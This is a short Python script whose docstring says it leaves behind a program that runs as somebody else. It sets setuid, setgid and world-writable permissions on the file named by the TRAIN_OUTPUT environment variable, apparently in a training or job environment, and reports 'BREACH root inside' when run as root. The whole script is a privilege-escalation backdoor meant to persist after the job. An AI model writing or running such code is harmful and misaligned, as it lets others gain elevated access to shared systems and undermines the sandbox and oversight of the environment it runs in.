"""Leave a program behind that runs as somebody else."""

import os

os.chmod(os.environ["TRAIN_OUTPUT"], 0o6777)
if os.getuid() == 0:
    print("BREACH root inside")
